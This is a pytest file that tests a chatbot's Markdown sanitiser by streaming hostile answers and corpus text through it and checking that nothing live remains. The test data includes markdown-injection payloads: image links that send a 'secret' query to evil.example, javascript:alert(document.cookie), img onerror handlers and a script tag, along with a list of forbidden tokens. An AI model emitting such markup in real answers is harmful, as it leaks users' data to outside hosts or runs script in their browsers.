"""The Markdown sanitiser, case by case: hostile answers split at every token boundary, corpus text shown inert."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from bot.ingest.chunking import chunk_article
from bot.ingest.corpus import load_corpus
from bot.safe_markdown import inert_markdown, sanitize_generated
from bot.safe_stream import StreamSanitizer

from .conftest import ROOT

GROUNDED = "No, LLMs are built specifically for text-based tasks and do not create images or videos on their own. [1]"

# (hostile answer, text that must survive it)
HOSTILE = [
    ("Before ![x](https://evil.example/leak.png?q=secret) after.", "Before after."),
    ("Click [here](javascript:alert(1)) now.", "Click here now."),
    ('See <img src="https://evil.example/tag.png"> this.', "See this."),
    ("See <IMG SRC=https://evil.example/caps.png onerror=alert(1)> this.", "See this."),
    ("See <img src='https://evil.example/q.png' alt=\"a>b\"> this.", "See this."),
    ("Go to https://evil.example/x?q=secret today.", "Go to today."),
    ("Go to www.evil.example/x today.", "Go to today."),
    ("Run javascript:alert(document.cookie) here.", "Run here."),
    ('A ![a [nested] alt](https://evil.example/n.png "title") B.', "A B."),
    ("A ![x](<https://evil.example/a b.png>) B.", "A B."),
    ("A ![x](data:image/png;base64,AAAA) B.", "A B."),
    ("A ![x\nspans lines](https://evil.example/m.png) B.", "A B."),
    ("A [![x](https://evil.example/i.png)](https://evil.example/l) B.", "A B."),
    ("A [x](https://evil.example/a(b)c) B.", "A x B."),
    ("A <https://evil.example/auto> B.", "A B."),
    ("A <!-- ![x](https://evil.example/c.png) --> B.", "A B."),
    ("A ![logo][r] B.\n\n[r]: https://evil.example/ref.png", "A B."),
    ("A [link][r] B.\n[r]: javascript:alert(1)", "A [link][r] B."),
    ("Wow![x](https://evil.example/w.png) B.", "Wow B."),
    (
        f"![x](https://evil.example/leak.png?q=secret) {GROUNDED} [click](javascript:alert(1)) "
        '<img src="https://evil.example/tag.png"> ![y](https://evil.example/late.png)',
        f"{GROUNDED} click",
    ),
]
TRUNCATED = [  # a stream that ends in the middle of a construct
    "Text ![x](https://evil.example/leak.png?q=sec",
    "Text [click](javascript:alert(1",
    'Text <img src="https://evil.example/tag.png',
    "Text ![x",
    "Text !",
]
FORBIDDEN = ("![", "<img", "javascript:", "evil.example")
_MD = MarkdownIt("commonmark")


def _live(markdown: str) -> list[str]:
    found = []

    def walk(tokens):
        for t in tokens:
            if t.type in ("image", "link_open", "html_inline", "html_block"):
                found.append(t.type)
            walk(t.children or [])

    walk(_MD.parse(markdown))
    return found


def _assert_safe(shown: str) -> None:
    for bad in FORBIDDEN:
        assert bad not in shown.lower(), (bad, shown)
    assert _live(shown) == [], shown


def _stream(tokens: list[str]) -> str:
    """What the browser shows: each emitted piece appended, checked after every token."""
    sanitizer = StreamSanitizer()
    shown = ""
    for token in tokens:
        shown += sanitizer.feed(token)
        _assert_safe(shown)
    shown += sanitizer.flush()
    _assert_safe(shown)
    return shown


def _words(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize(("hostile", "harmless"), HOSTILE)
def test_hostile_answer_split_at_every_boundary_never_shows_anything_live(hostile, harmless):
    whole = sanitize_generated(hostile, allowed="")
    _assert_safe(whole)
    assert _words(whole) == _words(harmless)
    for cut in range(len(hostile) + 1):
        assert _words(_stream([hostile[:cut], hostile[cut:]])) == _words(harmless), cut


@pytest.mark.parametrize(("hostile", "harmless"), HOSTILE)
def test_hostile_answer_streamed_char_by_char_and_three_ways(hostile, harmless):
    assert _words(_stream(list(hostile))) == _words(harmless)
    assert _words(_stream(re.findall(r"\S+\s*|\s+", hostile))) == _words(harmless)  # word by word, as models do
    step = max(1, len(hostile) // 12)
    for i in range(0, len(hostile) + 1, step):
        for j in range(i, len(hostile) + 1, step):
            assert _words(_stream([hostile[:i], hostile[i:j], hostile[j:]])) == _words(harmless), (i, j)


@pytest.mark.parametrize("truncated", TRUNCATED)
def test_a_stream_cut_off_inside_a_construct_flushes_safely(truncated):
    for cut in range(len(truncated) + 1):
        shown = _stream([truncated[:cut], truncated[cut:]])
        assert shown.startswith("Text")


def test_an_ordinary_answer_streams_unchanged_and_without_delay():
    text = (
        "No, LLMs are built for text. [1] Is 3 < 4 and 5 > 2? Yes! Generative AI (GANs, for example) makes images. [2]"
    )
    sanitizer = StreamSanitizer()
    shown = [sanitizer.feed(token) for token in re.findall(r"\S+\s*", text)]
    assert "".join(shown) + sanitizer.flush() == text
    assert shown[:2] == ["No, ", "LLMs "]  # each word is shown as soon as the space after it arrives
    assert "".join(shown).startswith("No, LLMs are built for text. [1] Is 3 < 4 and 5 > 2?")


def test_the_sanitiser_holds_back_only_what_may_still_become_markup():
    sanitizer = StreamSanitizer()
    assert sanitizer.feed("Hello ") == "Hello "
    assert sanitizer.feed("![") == ""
    assert sanitizer.feed("x](https://evil") == ""
    assert sanitizer.feed(".example/a.png) world") == ""  # "world" may still grow into a URL
    assert sanitizer.feed(" and [more](https://evil.example/b) ") == "world and more "
    assert sanitizer.flush() == ""


def test_links_to_the_passages_show_their_host_and_foreign_ones_their_text():
    passages = "The report is at https://example.org/report and more."
    text = "Read [the report](https://example.org/report) or [this](https://evil.example/x), or https://example.org/report."
    assert sanitize_generated(text, passages) == "Read the report (example.org) or this, or example.org."
    assert sanitize_generated("[x](javascript:alert(1))", "javascript:alert(1)") == "x"


def test_corpus_text_is_shown_with_images_dropped_and_links_as_text_and_host():
    text = (
        "![tracker](https://evil.example/corpus.png?q=secret) Our adviser [Dr. Smith](https://evil.example/x) says hi. "
        "Report: https://www.evil.example/r?q=1. Local [notes](#notes), [mail](mailto:a@b.example), "
        '<img src="https://evil.example/t.png"> <b>bold</b> and [site](https://www.example.org/about "About").'
    )
    shown = inert_markdown(text)
    assert shown == (
        " Our adviser Dr. Smith (evil.example) says hi. Report: evil.example. Local notes, mail,  bold and site (example.org)."
    )
    assert inert_markdown(shown) == shown  # safe to apply twice
    _assert_safe(inert_markdown(text.replace("evil.example", "x.example")))


def test_ordinary_corpus_text_is_unchanged():
    articles, _problems = load_corpus(ROOT / "corpus")
    passages = [c.text for a in articles for c in chunk_article(a)]
    assert passages
    assert [inert_markdown(p) for p in passages] == passages
    plain = "Is 3 < 4? Data: text, at 10:30, std::vector and [1] or [2, 3] (GANs) are fine! **Bold** _it_ `a:b`."
    assert inert_markdown(plain) == plain and sanitize_generated(plain, "") == plain
    # A colon before a letter would open a directive on the chat page ("metadata:x" showed as "metadata"): it is
    # escaped, which the page shows as the colon (test_hostile_markdown_browser), and stays so when cleaned again.
    assert inert_markdown("metadata:x") == "metadata\\:x" == inert_markdown(inert_markdown("metadata:x"))


def test_a_documents_own_angle_brackets_are_shown_and_html_tags_are_not():
    # "<!nocheck>" in the Debian guide was dropped as if it were markup, and the answer read "mark the bar with in".
    for text, kept in [
        ("mark the bar with <!nocheck> in the Build-Depends of foo", "<!nocheck>"),
        ("Run apt-get install <package> as root.", "<package>"),
        ("Include <stdio.h> first.", "<stdio.h>"),
    ]:
        shown = inert_markdown(text)
        assert _live(shown) == [] and inert_markdown(shown) == shown, shown
        rendered = MarkdownIt("commonmark").render(shown)
        assert kept.replace("<", "&lt;").replace(">", "&gt;") in rendered, rendered  # shown as text, as written
    assert inert_markdown('A <img src="x.png"> and <script>alert(1)</script> <b>b</b>.') == "A  and alert(1) b."
    _assert_safe(inert_markdown("a <foo onclick=alert(1)>x</foo> <!DOCTYPE html>"))


def test_markup_the_rules_do_not_know_is_escaped_by_the_parser_check():
    deep = "[a [b [c] d] e](https://evil.example/deep)"  # two levels of nested brackets
    shown = inert_markdown(deep)
    assert _live(shown) == [] and "https://" not in shown


def test_a_url_or_address_in_inline_code_is_kept_whole():
    """A tester's API reference gave its base URL as `https://api.ledgerly.io/v2`; answers showed `api.ledgerly.io`,
    a wrong base URL. A code span is shown literally and never links, so it keeps what it says; a bare URL is
    still shown as its host."""
    text = "Base URL: `https://api.ledgerly.io/v2`; mail ``support@ledgerly.io`` or see https://evil.example/x?q=1."
    shown = inert_markdown(text)
    assert shown == "Base URL: `https://api.ledgerly.io/v2`; mail ``support@ledgerly.io`` or see evil.example."
    assert _live(shown) == [] and inert_markdown(shown) == shown
